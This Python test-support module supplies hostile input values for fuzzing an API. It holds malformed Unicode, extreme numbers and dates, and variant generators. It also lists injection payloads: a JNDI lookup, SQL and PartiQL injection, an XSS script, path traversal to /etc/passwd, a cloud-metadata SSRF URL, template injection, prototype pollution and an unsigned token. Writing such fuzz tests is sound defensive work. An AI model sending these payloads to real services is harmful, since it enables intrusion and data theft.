"""Owns what is put where it does not belong: values for a body, texts for names, queries and headers. Pure."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

Labelled = tuple[str, Any]
FORGED_LINE = 'x\n{"level":"INFO","message":"forged line","code":"approved"}'
_NESTED = 100


def nested(depth: int) -> Any:
    """Lists inside lists.

    >>> nested(2)
    [[[]]]
    """
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


TEXTS: dict[str, str] = {
    "empty": "",
    "spaces": "   ",
    "NUL": "a\x00b",
    "control characters": "\x01\x07\x08\x1b[31m\x7f\x9b",
    "a line that looks like our log": FORGED_LINE,
    "right to left": "\u202e4030\u202d\u2066\u2069",
    "invisible": "\u200b\u200d\ufeff\u2060\u00ad",
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "\udfff",
    "emoji of several parts": "👩🏽\u200d👧\u200d👦🏳️\u200d🌈",
    "combining without end": "e" + "\u0301" * 500,
    "no characters": "\ufffe\uffff\U0010ffff",
    "line separators": "a\u2028b\u2029c\x85d",
    "wide digits": "４４０３００",
    "digits that are no numbers": "²³①",
    "digits of another script": "٤٤٠٣٠٠",
    "a letter of another script": "nеwborn",
    "long": "长" * 10_000,
    "a number": "440300",
    "a negative number": "-1",
    "a number too large": "9" * 400,
    "a boolean": "true",
    "null": "null",
    "not a number": "NaN",
    "the first day": "0001-01-01",
    "the last day": "9999-12-31",
    "no such day": "2026-02-30",
    "before the first moment": "0001-01-01T00:00:00+23:59",
    "after the last moment": "9999-12-31T23:59:59-23:59",
    "no such offset": "2026-11-24T00:00:00+99:99",
    "a template": "{case}{0.__class__.__mro__}{{7*7}}${7*7}%s%n",
    "a look-up": "${jndi:ldap://198.51.100.1/a}",
    "SQL": "' OR '1'='1' --",
    "PartiQL": '"; SELECT * FROM "onething-local-people"',
    "markup": "<script>alert(1)</script><!--",
    "a way up": "../../../../etc/passwd",
    "an address": "http://169.254.169.254/latest/meta-data/",
    "a key of a row": "PERSON#wu-xiaotong",
    "a key of another row": "CASE#202611240TD6HM7XA5Q",
    "a prototype": "__proto__",
    "a token's beginning": "eyJhbGciOiJub25lIn0.e30.",
}

OTHERS: dict[str, Any] = {
    "null itself": None,
    "true": True,
    "false": False,
    "zero": 0,
    "minus zero": -0.0,
    "minus one": -1,
    "a fraction": 1.5,
    "a tiny number": 5e-324,
    "a huge number": 1e308,
    "an integer over 64 bits": 10**30,
    "an integer over all floats": 10**400,
    "an integer of 4,000 digits": -(10**3999),
    "not a number": float("nan"),
    "infinity": float("inf"),
    "minus infinity": float("-inf"),
    "an empty list": [],
    "an empty object": {},
    "a list of null": [None],
    "an object with an empty name": {"": ""},
    "an object that refers": {"$ref": "#/components/schemas/CaseView"},
    "a prototype": {"__proto__": {"admin": True}, "constructor": {"prototype": {}}},
    "a hundred levels": nested(_NESTED),
    "a long list": ["x"] * 5_000,
    "a long list of lists": [[]] * 5_000,
    "many names": {f"n{number}": number for number in range(2_000)},
}


def hostile() -> Iterator[Labelled]:
    """Every hostile value with its name."""
    yield from TEXTS.items()
    yield from OTHERS.items()


def relatives(value: Any) -> Iterator[Labelled]:
    """Values that look like the one there is: of another type, dressed up, or a little longer."""
    yield "in a list", [value]
    yield "in an object", {"value": value}
    if isinstance(value, bool | int | float):
        yield "a number as a text", str(value)
    if isinstance(value, str):
        yield from _like(value)
    if isinstance(value, list | dict):
        yield "as a text", str(value)
    if isinstance(value, list):
        yield "each entry twice", value * 2
        yield "as an object", {str(number): entry for number, entry in enumerate(value)}


def _like(text: str) -> Iterator[Labelled]:
    if text.isdecimal() and text.isascii():
        yield "a text as a number", int(text)
        yield "wide digits of the same number", "".join(chr(ord(digit) + 0xFEE0) for digit in text)
    yield from alike(text)


def alike(text: str) -> Iterator[tuple[str, str]]:
    """Texts that look like this one."""
    yield "with a line end", text + "\n"
    yield "with a NUL", text + "\x00"
    yield "with spaces around", f" {text} "
    yield "turned around", "\u202e" + text[::-1]
    yield "twice", text * 2
    yield "a thousand times", text * 1000
    yield "without its end", text[:-1]
    yield "in capitals", text.upper()
    yield "in small letters", text.lower()
